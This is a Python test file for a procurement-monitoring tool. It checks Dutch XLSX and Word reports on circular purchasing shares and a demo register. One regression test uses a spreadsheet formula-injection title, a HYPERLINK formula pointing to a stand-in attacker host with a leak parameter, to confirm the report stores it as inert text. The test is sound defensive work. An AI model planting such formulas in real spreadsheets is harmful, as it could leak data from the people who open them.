"""The XLSX and Word reports, and the trainers' demo register."""

from __future__ import annotations

from pathlib import Path

import docx
import openpyxl
import pytest

from tender_assistant.monitoring.records import ContractRecord
from tender_assistant.monitoring.register_store import RegisterStore
from tender_assistant.monitoring.report import headline, write_docx, write_xlsx
from tender_assistant.monitoring.rule import CountingRule, summarise
from tests.unit.tender_assistant.monitoring.test_rule import AWARD_3, REQ, rec


@pytest.fixture
def records() -> list[ContractRecord]:
    from datetime import date

    return [rec("Gemeente A", 600_000, [REQ]), rec("Gemeente A", 400_000, [AWARD_3]),
            rec("Gemeente B", 1_000_000, [REQ], package="gww"),
            rec("Gemeente B", 500_000, [REQ], award_date=date(2024, 2, 1), package="gww"),
            rec("Gemeente B", 50_000, [], criteria_known=False, package="catering")]


def test_headline_says_where_the_region_stands(records: list[ContractRecord]) -> None:
    report = summarise(records, CountingRule(), 2025)
    # 1.6 mln circular of 2.05 mln in scope = 78,0 %, above the agreed 50 %
    assert headline(report, None) == ("In 2025 kocht de regio (2 organisaties) 78,0% circulair in (in euro's); het "
                                      "afgesproken doel van 50,0% is gehaald (€ 575.000 erboven).")
    only_a = summarise(records, CountingRule(), 2025, "Gemeente A")
    assert "er ontbreekt € 0" not in headline(only_a, "Gemeente A")


def test_xlsx_has_the_figures_and_native_charts(tmp_path: Path, records: list[ContractRecord]) -> None:
    out = write_xlsx(summarise(records, CountingRule(), 2025), records, tmp_path / "rapport.xlsx")
    wb = openpyxl.load_workbook(out)
    assert wb.sheetnames == ["Overzicht", "Per jaar", "Per pakket", "Per soort", "Per niveau", "Per R-groep",
                             "Registraties"]
    overview = [row for row in wb["Overzicht"].iter_rows(values_only=True) if row and row[0] == "Regio (som)"]
    assert overview[0][1:4] == (2_050_000, 1_600_000, pytest.approx(1_600_000 / 2_050_000))
    assert len(wb["Per jaar"]._charts) == 1 and len(wb["Per pakket"]._charts) == 1
    years = [row for row in wb["Per jaar"].iter_rows(min_row=2, values_only=True)]
    assert years[0][0] == 2024 and years[-1][0] == 2030 and years[-1][2] == 1.0
    detail = list(wb["Registraties"].iter_rows(values_only=True))
    assert detail[0][-2:] == ("BT-774", "BT-805")
    assert sum(1 for row in detail[1:] if row[-2] == "circ-econ") == 2


def test_word_report_has_the_charts_and_the_rule(tmp_path: Path, records: list[ContractRecord]) -> None:
    out = write_docx(summarise(records, CountingRule(), 2025), records, tmp_path / "rapport.docx")
    doc = docx.Document(str(out))
    text = "\n".join(p.text for p in doc.paragraphs)
    assert "78,0% circulair" in text and "De telregel" in text and "[[grafiek" not in text
    assert len(doc.inline_shapes) == 2
    assert doc.core_properties.title == "Monitoring circulair inkopen 2025"


def test_demo_workspace_holds_a_register_of_two_organisations_over_three_years(isolated_home: Path) -> None:
    from tender_assistant.demo import demo_register_path, reset_demo

    workspace = reset_demo()
    register = RegisterStore.open(demo_register_path(workspace))
    records = register.records()
    register.close()
    assert len({r.organisation for r in records}) == 2
    assert register.path.parent == workspace and not (isolated_home / "register.db").exists()
    assert {r.award_date.year for r in records if r.award_date} == {2023, 2024, 2025}
    shares = [summarise(records, CountingRule(), y).region.figures(None)["share_value"] for y in (2023, 2024, 2025)]
    assert 0 < shares[0] < shares[1] < shares[2] < 1  # rising, as a trainer would tell it
    assert any(r.override for r in records) and any(not r.physical for r in records)


def test_xlsx_writes_hostile_titles_as_text(tmp_path: Path) -> None:
    """A contract title '=HYPERLINK(...)' became a live link in the report, and a control character in a title made
    writing the report fail (issue 18): every title is text, shown as written, the control character escaped."""
    link = '=HYPERLINK("http://evil.example/?leak=1","Klik hier")'
    hostile = [rec("=Gemeente X", 100_000, [REQ], title=link), rec("Gemeente X", 50_000, [REQ], title="Bel\x07 mij")]
    out = write_xlsx(summarise(hostile, CountingRule(), 2025), hostile, tmp_path / "rapport.xlsx")
    detail = openpyxl.load_workbook(out)["Registraties"]
    cells = {c.value: c for row in detail.iter_rows(min_row=2) for c in row[:2]}
    assert cells[link].data_type == "s" and cells[link].quotePrefix
    assert cells["=Gemeente X"].data_type == "s"
    assert "Bel\\x07 mij" in cells
    overview = openpyxl.load_workbook(out)["Overzicht"]
    assert all(c.data_type != "f" for row in overview.iter_rows() for c in row)
